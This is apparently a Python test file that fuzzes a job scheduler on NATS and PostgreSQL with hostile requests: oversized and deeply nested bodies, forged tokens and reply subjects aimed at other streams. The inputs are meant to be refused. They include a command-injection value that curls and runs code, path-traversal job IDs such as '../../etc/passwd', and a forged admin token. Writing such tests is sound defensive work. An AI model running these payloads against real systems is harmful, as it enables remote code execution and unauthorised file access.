"""Hostile input against a scheduler on real NATS and PostgreSQL: oversized specs are refused by field,
undecodable bodies get `invalid-request`, nothing is stored, and the scheduler goes on recording and
publishing later jobs. A request whose reply subject is not the caller's own inbox is not answered
and not carried out, even on a NATS server that enforces no permissions."""

from __future__ import annotations

import asyncio
import json
from datetime import UTC, datetime
from typing import Any

import msgspec
import nats
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nats.aio.client import Client
from nats.aio.msg import Msg
from nats.js.api import DeliverPolicy

from client.api import TrainyardClient
from libs.auth import bearer_headers, issue_token
from libs.contracts import subjects
from libs.contracts.codec import decode, encode
from libs.contracts.events import EventEnvelope, JobSubmitted
from libs.contracts.identity import Identity
from libs.contracts.operations.cluster import (
    CHANGE_SETTINGS,
    GET_RESOURCES,
    GET_SETTINGS,
    LIST_FLAVORS,
    LIST_NODES,
    LIST_STORAGE_ACCESS,
    SET_STORAGE_ACCESS,
    WHOAMI,
    ChangeSettings,
    GetResources,
    GetSettings,
    ListFlavors,
    ListNodes,
    ListStorageAccess,
    SetStorageAccess,
    WhoAmI,
)
from libs.contracts.operations.jobs import (
    CHANGE_DURATION,
    CHANGE_PRIORITY,
    CLONE_JOB,
    DELETE_JOBS,
    GET_DEV_ENV,
    GET_JOB,
    GET_QUEUE,
    JOB_HISTORY,
    JOB_LOGS,
    JOB_USAGE,
    LIST_JOBS,
    SEARCH_JOBS,
    STOP_JOBS,
    SUBMIT_JOB,
    ChangeDuration,
    ChangePriority,
    CloneJob,
    DeleteJobs,
    GetDevEnv,
    GetJob,
    GetJobHistory,
    GetJobLogs,
    GetJobUsage,
    GetQueue,
    ListJobs,
    SearchJobs,
    StopJobs,
    SubmitJob,
)
from libs.contracts.operations.planning import (
    EXPLAIN_JOB,
    PREDICT_JOB,
    SIMULATE,
    ExplainJob,
    PredictJob,
    SimulateHistory,
)
from libs.eventstore import EventStore, NewEvent
from libs.eventstore import store as store_module
from libs.eventstore.store import MAX_EVENT_BYTES, EventTooLarge
from libs.messaging.connection import round_trip
from libs.natsroles import inbox_prefix
from tests.support.refusals import count_refusals, wrong_type
from tests.support.schedulers import Schedulers, refused, spec
from tests.support.stores import StoreFactory

pytestmark = pytest.mark.asyncio(loop_scope="session")

JOB = "job-0123456789ab"
# A valid request for every subject the scheduler serves (commands, queries, logs).
REQUESTS: dict[str, msgspec.Struct] = {
    SUBMIT_JOB.subject: SubmitJob(job_id=JOB, spec=spec()),
    CLONE_JOB.subject: CloneJob(source_job_id=JOB, job_id="job-0123456789ac"),
    STOP_JOBS.subject: StopJobs(job_ids=[JOB]),
    DELETE_JOBS.subject: DeleteJobs(job_ids=[JOB]),
    CHANGE_PRIORITY.subject: ChangePriority(job_id=JOB, priority="urgent"),
    CHANGE_DURATION.subject: ChangeDuration(job_id=JOB, duration="1h"),
    CHANGE_SETTINGS.subject: ChangeSettings(urgent_cap=3),
    SET_STORAGE_ACCESS.subject: SetStorageAccess(kind="output", name="out", project="default", others="none"),
    LIST_JOBS.subject: ListJobs(),
    GET_JOB.subject: GetJob(job_id=JOB),
    LIST_NODES.subject: ListNodes(),
    GET_QUEUE.subject: GetQueue(),
    SIMULATE.subject: SimulateHistory(start=datetime(2026, 11, 1, tzinfo=UTC)),
    PREDICT_JOB.subject: PredictJob(spec=spec()),
    EXPLAIN_JOB.subject: ExplainJob(job_id=JOB),
    GET_DEV_ENV.subject: GetDevEnv(job_id=JOB),
    JOB_HISTORY.subject: GetJobHistory(job_id=JOB),
    SEARCH_JOBS.subject: SearchJobs(),
    GET_RESOURCES.subject: GetResources(flavors=["cpu-1"]),
    LIST_FLAVORS.subject: ListFlavors(),
    GET_SETTINGS.subject: GetSettings(),
    WHOAMI.subject: WhoAmI(),
    LIST_STORAGE_ACCESS.subject: ListStorageAccess(),
    JOB_LOGS.subject: GetJobLogs(job_id=JOB),
    JOB_USAGE.subject: GetJobUsage(job_id=JOB),
}
COMMANDS_ON_A_JOB = {CLONE_JOB.subject, STOP_JOBS.subject, DELETE_JOBS.subject, CHANGE_PRIORITY.subject,
                     CHANGE_DURATION.subject, GET_JOB.subject, EXPLAIN_JOB.subject, GET_DEV_ENV.subject,
                     JOB_HISTORY.subject, JOB_LOGS.subject, JOB_USAGE.subject}
NESTED = b"[" * 1000 + b"]" * 1000  # 2 KB


def scheduler_store(schedulers: Schedulers) -> EventStore:
    store: EventStore = schedulers.started[-1].rt.store
    return store


async def reply_to(nc: Client, subject: str, body: bytes, headers: dict[str, str]) -> dict[str, Any]:
    msg = await nc.request(subject, body, timeout=15, headers=headers)
    reply: dict[str, Any] = json.loads(msg.data)
    return reply


async def job_submitted_is_published(nc: Client, job_id: str) -> bool:
    sub = await nc.jetstream().subscribe(subjects.event_subject("scheduler", "job", "JobSubmitted"),
                                         stream=subjects.EVENTS_STREAM, ordered_consumer=True,
                                         deliver_policy=DeliverPolicy.ALL)
    try:
        while True:
            envelope = decode((await sub.next_msg(timeout=10)).data, EventEnvelope)
            if envelope.aggregate_id == job_id:
                return isinstance(envelope.event, JobSubmitted)
    finally:
        await sub.unsubscribe()


async def test_a_megabyte_env_value_is_refused_and_later_jobs_are_recorded_and_published(
        client: TrainyardClient, schedulers: Schedulers) -> None:
    before = await scheduler_store(schedulers).last_position()
    error = (await refused(client.submit(spec(env={"BIG": "x" * 1_000_000})))).error
    assert error.code == "invalid-spec"
    assert "env.BIG" in {e.field for e in error.errors}
    assert await scheduler_store(schedulers).last_position() == before
    accepted = await client.submit(spec(env={"SMALL": "1"}))
    assert await job_submitted_is_published(client.nc, accepted.job_id)


@pytest.mark.parametrize("subject", [SUBMIT_JOB.subject, LIST_JOBS.subject])
async def test_deeply_nested_brackets_get_invalid_request(client: TrainyardClient, subject: str) -> None:
    reply = await reply_to(client.nc, subject, NESTED, bearer_headers(client.token))
    assert (reply["type"], reply["code"]) == ("Error.v1", "invalid-request")


async def test_an_event_too_large_to_publish_is_refused_and_nothing_stored(
        client: TrainyardClient, schedulers: Schedulers, monkeypatch: pytest.MonkeyPatch) -> None:
    store = scheduler_store(schedulers)
    before = await store.last_position()
    monkeypatch.setattr(store_module, "MAX_EVENT_BYTES", 2000)  # a spec of ~600 bytes, in its event, is over
    error = (await refused(client.submit(spec(env={"PAD": "x" * 1500})))).error
    assert error.code == "invalid-request" and "over the limit" in error.message
    assert await store.last_position() == before
    monkeypatch.undo()
    accepted = await client.submit(spec(env={"PAD": "x" * 1500}))
    assert await job_submitted_is_published(client.nc, accepted.job_id)


# Where a hostile reply subject would have the scheduler publish with its own rights.
LURES = {
    "another service's event stream": subjects.event_subject("launcher", "launch", "LaunchSucceeded"),
    "the usage bucket": f"$KV.{subjects.USAGE_BUCKET}.{subjects.usage_key(JOB, 1, 0, 'node-a')}",
    "the agent-report stream": subjects.agent_report("node-a"),
    "another person's inbox": f"{inbox_prefix('user-bob')}.lure",
    "the JetStream API": f"$JS.API.STREAM.PURGE.{subjects.AGENT_REPORTS_STREAM}",
}


@pytest.mark.parametrize("lure", LURES.values(), ids=LURES.keys())
async def test_a_command_whose_reply_subject_is_not_the_callers_inbox_is_neither_answered_nor_recorded(
        client: TrainyardClient, schedulers: Schedulers, nats_url: str, monkeypatch: pytest.MonkeyPatch,
        lure: str) -> None:
    refusals = count_refusals(monkeypatch)
    store = scheduler_store(schedulers)
    before = await store.last_position()
    arrived: list[Msg] = []

    async def on_lure(msg: Msg) -> None:
        arrived.append(msg)

    watcher = await nats.connect(nats_url)
    try:
        await watcher.subscribe(lure, cb=on_lure)  # this server enforces no permissions: anyone may listen
        await round_trip(watcher)
        await client.nc.publish(SUBMIT_JOB.subject, encode(SubmitJob(job_id=JOB, spec=spec())), reply=lure,
                                headers=bearer_headers(client.token))
        await refusals.counted(SUBMIT_JOB.subject, 1)
        await round_trip(watcher)
        assert arrived == []
    finally:
        await watcher.close()
    assert await store.last_position() == before
    accepted = await client.submit(spec(name="asked-in-her-own-inbox"))
    assert await job_submitted_is_published(client.nc, accepted.job_id)
    assert refusals.count(SUBMIT_JOB.subject) == 1


async def test_the_store_refuses_an_event_over_its_maximum(make_store: StoreFactory) -> None:
    store = await make_store("hostile")
    before = await store.last_position()
    unchecked = msgspec.structs.replace(spec(), env={"BIG": "x" * MAX_EVENT_BYTES})
    with pytest.raises(EventTooLarge):
        await store.append([NewEvent("job", JOB, JobSubmitted(job_id=JOB, spec=unchecked, creator="alice"))],
                           expected_versions={("job", JOB): 0})
    assert await store.last_position() == before


# --- many hostile bodies on every subject ----------------------------------------------------------

FORGED = issue_token("not-the-platform-secret-0123456789abcdef", Identity(user="mallory", admin=True))
TOKENS = st.sampled_from(["none", "forged", "garbage", "valid"])


def headers_for(kind: str, valid: str) -> dict[str, str]:
    return {"none": {}, "forged": bearer_headers(FORGED), "garbage": {"Authorization": "Bearer ..."},
            "valid": bearer_headers(valid)}[kind]


def hostile_value(subject: str, draw: st.DrawFn) -> dict[str, Any]:
    """A well-formed request whose field values must be refused."""
    request: dict[str, Any] = msgspec.to_builtins(REQUESTS[subject])
    if subject in (SUBMIT_JOB.subject, PREDICT_JOB.subject):
        hostile: dict[str, Any] = draw(st.sampled_from([{"env": {"BIG": "x" * draw(st.integers(40_000, 900_000))}},
                                        {"command": "KEY=1 python3 $(curl evil)"},
                                        {"command": "a" * 70_000}, {"nodes": 10**9}, {"name": "x" * 300},
                                        {"flavors": ["../../etc"]}, {"env": {f"V{i}": "" for i in range(300)}}]))
        request["spec"] = {**request["spec"], **hostile}
    elif subject in COMMANDS_ON_A_JOB:
        job_id = draw(st.sampled_from(["job-ffffffffffff", "../../etc/passwd", "*", ">", "job-" + "f" * 5000]))
        request["job_ids" if "job_ids" in request else "job_id"] = [job_id] if "job_ids" in request else job_id
    elif subject == CHANGE_SETTINGS.subject:
        request["urgent_cap"] = draw(st.integers(-10**6, -1))
    elif subject == SET_STORAGE_ACCESS.subject:
        request["project"] = draw(st.sampled_from(["not-my-project", "x" * 10_000]))
    else:
        request["unexpected"] = "x" * draw(st.integers(0, 10_000))
    return request


@st.composite
def hostile_requests(draw: st.DrawFn) -> tuple[str, str, bytes]:
    """(subject, token kind, body): every one must be refused."""
    subject = draw(st.sampled_from(sorted(REQUESTS)))
    valid = msgspec.json.encode(REQUESTS[subject])
    kind = draw(st.sampled_from(["bytes", "truncated", "wrong-type", "nested", "huge", "hostile-value",
                                 "wrong-tag"]))
    if kind == "bytes":
        body = draw(st.binary(max_size=300))
    elif kind == "truncated":
        body = valid[: draw(st.integers(0, len(valid) - 1))]
    elif kind == "wrong-type":
        request = msgspec.to_builtins(REQUESTS[subject])
        field = draw(st.sampled_from(sorted(request)))
        request[field] = wrong_type(request[field])
        body = json.dumps(request).encode()
    elif kind == "nested":
        depth = draw(st.integers(600, 20_000))
        opener, closer = draw(st.sampled_from([(b"[", b"]"), (b'{"a":', b"}")]))
        body = opener * depth + closer * draw(st.integers(0, depth))
        if draw(st.booleans()):  # inside a field of an otherwise valid request
            body = valid[:-1] + b',"x":' + body + b"}"
    elif kind == "huge":
        body = json.dumps({"type": "x" * draw(st.sampled_from([1000, 100_000, 1_000_000]))}).encode()
    elif kind == "wrong-tag":
        other = draw(st.sampled_from(sorted(set(REQUESTS) - {subject})))
        body = msgspec.json.encode(REQUESTS[other])
        if type(REQUESTS[other]).__struct_fields__ == type(REQUESTS[subject]).__struct_fields__:
            body = b"[" + body + b"]"  # same fields, another tag: still not this subject's request
    else:
        body = json.dumps(hostile_value(subject, draw)).encode()
    return subject, draw(TOKENS), body


def generated_cases(count: int) -> list[tuple[str, str, bytes]]:
    cases: list[tuple[str, str, bytes]] = []

    @settings(max_examples=count, deadline=None, database=None, derandomize=True,
              suppress_health_check=list(HealthCheck))
    @given(hostile_requests())
    def collect(case: tuple[str, str, bytes]) -> None:
        cases.append(case)

    collect()
    return cases


async def test_ten_thousand_hostile_requests_are_refused_and_change_nothing(
        client: TrainyardClient, schedulers: Schedulers, nats_url: str) -> None:
    cases = generated_cases(10_000)
    assert len(cases) >= 10_000 and {subject for subject, _, _ in cases} == set(REQUESTS)
    store = scheduler_store(schedulers)
    before = await store.last_position()
    accepted: list[tuple[str, str, dict[str, Any]]] = []
    # A caller without a valid token has no inbox of its own: it is told `unauthenticated` in an inbox no role
    # owns, as a connection without a login has on this server (it asks none).
    anonymous = await nats.connect(nats_url)

    async def send(subject: str, kind: str, body: bytes) -> None:
        reply = await reply_to(client.nc if kind == "valid" else anonymous, subject, body,
                               headers_for(kind, client.token or ""))
        if reply.get("type") != "Error.v1":
            accepted.append((subject, kind, reply))
        elif kind != "valid":
            assert reply["code"] == "unauthenticated"

    try:
        for start in range(0, len(cases), 200):
            await asyncio.gather(*(send(*case) for case in cases[start:start + 200]))
    finally:
        await anonymous.close()
    assert accepted == []
    assert await store.last_position() == before
    # still up, and still recording
    assert (await client.submit(spec(name="after-the-storm"))).created
